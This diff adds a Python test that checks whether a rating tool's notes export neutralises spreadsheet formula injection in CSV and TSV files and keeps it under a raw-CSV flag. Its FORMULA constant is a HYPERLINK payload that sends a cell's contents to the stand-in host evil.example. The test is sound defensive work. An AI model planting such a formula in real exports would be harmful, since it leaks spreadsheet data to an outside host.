@@ -1,0 +1,36 @@
+"""A hostile review of adjudication, notes as data and issue 24's trust fixes: each case broke a promise on the
+code as merged, through the real CLI (or the real app in tmux), and holds now."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+from tests.support import run_cli_process, story_study
+from tui_rater.store.study import Study
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _cells(path: Path, delimiter: str = ",") -> list[str]:
+    with open(path, newline="", encoding="utf-8") as handle:
+        return [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]
+
+
+def test_notes_export_says_it_neutralised_a_comment_and_raw_csv_keeps_it(tmp_path):
+    """`export --what notes` ignored --raw-csv and never said that a comment's formula got a leading '."""
+    db = story_study(tmp_path / "study.db")
+    study = Study.open(db)
+    item = study.items("story")[0]
+    study.add_note(item.key, study.human("alice").id, "comment", FORMULA)
+    study.close()
+    for suffix, delimiter in (("csv", ","), ("tsv", "\t")):
+        out = tmp_path / f"notes.{suffix}"
+        done = run_cli_process("export", "--what", "notes", "--db", db, "--out", out)
+        assert done.returncode == 0, done.stderr
+        assert "1 CSV cell(s)" in done.stderr and "--raw-csv writes them as they are" in done.stderr
+        assert "'" + FORMULA in _cells(out, delimiter) and FORMULA not in _cells(out, delimiter)
+        raw = tmp_path / f"raw.{suffix}"
+        done = run_cli_process("export", "--what", "notes", "--db", db, "--out", raw, "--raw-csv")
+        assert done.returncode == 0, done.stderr
+        assert FORMULA in _cells(raw, delimiter) and "CSV cell" not in done.stderr
